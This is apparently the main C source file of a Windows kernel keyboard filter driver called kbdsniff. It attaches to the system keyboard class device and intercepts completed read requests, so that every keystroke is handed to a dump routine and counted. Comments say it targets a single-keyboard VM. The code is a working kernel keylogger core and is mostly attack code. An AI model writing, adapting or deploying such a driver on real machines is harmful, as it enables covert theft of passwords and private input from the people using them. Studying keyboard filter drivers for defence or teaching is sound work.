/*
 * kbdsniff.c - DriverEntry, dispatch and unload
 *
 * Legacy style: we do not have an INF / AddDevice, we just grab
 * \Device\KeyboardClass0 by name in DriverEntry.  Good enough for
 * a VM with one PS/2 keyboard.
 */
#include "kbdsniff.h"

volatile LONG g_KbsPendingReads = 0;
ULONG         g_KbsKeysSeen     = 0;

#ifdef ALLOC_PRAGMA
#pragma alloc_text(INIT, DriverEntry)
#pragma alloc_text(PAGE, KbsUnload)
#endif

NTSTATUS
KbsDispatchPass(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKBS_DEVICE_EXTENSION ext = (PKBS_DEVICE_EXTENSION)DeviceObject->DeviceExtension;

    IoSkipCurrentIrpStackLocation(Irp);
    return IoCallDriver(ext->LowerDevice, Irp);
}

NTSTATUS
KbsDispatchPower(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKBS_DEVICE_EXTENSION ext = (PKBS_DEVICE_EXTENSION)DeviceObject->DeviceExtension;

    PoStartNextPowerIrp(Irp);
    IoSkipCurrentIrpStackLocation(Irp);
    return PoCallDriver(ext->LowerDevice, Irp);
}

/*
 * The class device sits in a PnP stack, so if the keyboard gets yanked
 * we see the remove come through.  Detach and go away with it.
 */
NTSTATUS
KbsDispatchPnp(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKBS_DEVICE_EXTENSION ext = (PKBS_DEVICE_EXTENSION)DeviceObject->DeviceExtension;
    PIO_STACK_LOCATION    irpSp = IoGetCurrentIrpStackLocation(Irp);
    PDEVICE_OBJECT        lower = ext->LowerDevice;
    NTSTATUS              status;

    if (irpSp->MinorFunction == IRP_MN_REMOVE_DEVICE) {
        KBS_LOG("remove on the class device, detaching\n");
        ext->Removed = TRUE;
        IoSkipCurrentIrpStackLocation(Irp);
        status = IoCallDriver(lower, Irp);
        IoDetachDevice(lower);
        IoDeleteDevice(DeviceObject);
        return status;
    }

    IoSkipCurrentIrpStackLocation(Irp);
    return IoCallDriver(lower, Irp);
}

NTSTATUS
KbsReadComplete(PDEVICE_OBJECT DeviceObject, PIRP Irp, PVOID Context)
{
    ULONG count;

    UNREFERENCED_PARAMETER(DeviceObject);
    UNREFERENCED_PARAMETER(Context);

    if (NT_SUCCESS(Irp->IoStatus.Status)) {
        count = (ULONG)(Irp->IoStatus.Information / sizeof(KEYBOARD_INPUT_DATA));
        KbsDumpKeys((PKEYBOARD_INPUT_DATA)Irp->AssociatedIrp.SystemBuffer, count, &g_KbsKeysSeen);
    }

    if (Irp->PendingReturned) {
        IoMarkIrpPending(Irp);
    }

    InterlockedDecrement(&g_KbsPendingReads);
    return Irp->IoStatus.Status;
}

NTSTATUS
KbsDispatchRead(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKBS_DEVICE_EXTENSION ext = (PKBS_DEVICE_EXTENSION)DeviceObject->DeviceExtension;

    IoCopyCurrentIrpStackLocationToNext(Irp);
    IoSetCompletionRoutine(Irp, KbsReadComplete, NULL, TRUE, TRUE, TRUE);

    InterlockedIncrement(&g_KbsPendingReads);
    return IoCallDriver(ext->LowerDevice, Irp);
}

VOID
KbsUnload(PDRIVER_OBJECT DriverObject)
{
    PDEVICE_OBJECT          filter = DriverObject->DeviceObject;
    PKBS_DEVICE_EXTENSION   ext;
    PDEVICE_OBJECT          lower;
    LARGE_INTEGER           interval;

    PAGED_CODE();

    if (filter == NULL) {
        KBS_LOG("unload: nothing attached (keyboard removed?)\n");
        return;
    }

    ext   = (PKBS_DEVICE_EXTENSION)filter->DeviceExtension;
    lower = ext->LowerDevice;
    KBS_LOG("unload: %lu keys seen\n", g_KbsKeysSeen);

    IoDeleteDevice(filter);
    IoDetachDevice(lower);

    /*
     * A read is always parked in kbdclass waiting for the next key;
     * it still points at KbsReadComplete.  Hang around until it has
     * come back (press a key after "sc stop").
     */
    interval.QuadPart = KBS_UNLOAD_POLL;
    while (InterlockedCompareExchange(&g_KbsPendingReads, 0, 0) > 0) {
        KeDelayExecutionThread(KernelMode, FALSE, &interval);
    }

    KBS_LOG("unload: done\n");
}

NTSTATUS
DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath)
{
    NTSTATUS                status;
    PDEVICE_OBJECT          filter = NULL;
    PKBS_DEVICE_EXTENSION   ext;
    UNICODE_STRING          target;
    ULONG                   i;

    UNREFERENCED_PARAMETER(RegistryPath);

    KBS_LOG("DriverEntry, built " __DATE__ " " __TIME__ "\n");

    for (i = 0; i <= IRP_MJ_MAXIMUM_FUNCTION; i++) {
        DriverObject->MajorFunction[i] = KbsDispatchPass;
    }
    DriverObject->MajorFunction[IRP_MJ_READ]  = KbsDispatchRead;
    DriverObject->MajorFunction[IRP_MJ_POWER] = KbsDispatchPower;
    DriverObject->MajorFunction[IRP_MJ_PNP]   = KbsDispatchPnp;
    DriverObject->DriverUnload = KbsUnload;

    status = IoCreateDevice(DriverObject,
                            sizeof(KBS_DEVICE_EXTENSION),
                            NULL,
                            FILE_DEVICE_KEYBOARD,
                            0,
                            FALSE,
                            &filter);
    if (!NT_SUCCESS(status)) {
        KBS_LOG("IoCreateDevice failed 0x%08X\n", status);
        return status;
    }

    ext = (PKBS_DEVICE_EXTENSION)filter->DeviceExtension;
    RtlZeroMemory(ext, sizeof(*ext));
    ext->Self = filter;

    /* kbdclass does buffered I/O, match it before anybody sends us an IRP */
    filter->Flags |= DO_BUFFERED_IO;

    RtlInitUnicodeString(&target, KBS_TARGET_NAME);
    status = IoAttachDevice(filter, &target, &ext->LowerDevice);
    if (!NT_SUCCESS(status)) {
        KBS_LOG("IoAttachDevice(%wZ) failed 0x%08X\n", &target, status);
        return status;
    }

    filter->DeviceType      = ext->LowerDevice->DeviceType;
    filter->Characteristics = ext->LowerDevice->Characteristics;
    filter->Flags |= ext->LowerDevice->Flags & DO_POWER_PAGABLE;
    filter->Flags &= ~DO_DEVICE_INITIALIZING;

    KBS_LOG("attached %p on top of %p\n", filter, ext->LowerDevice);
    return STATUS_SUCCESS;
}
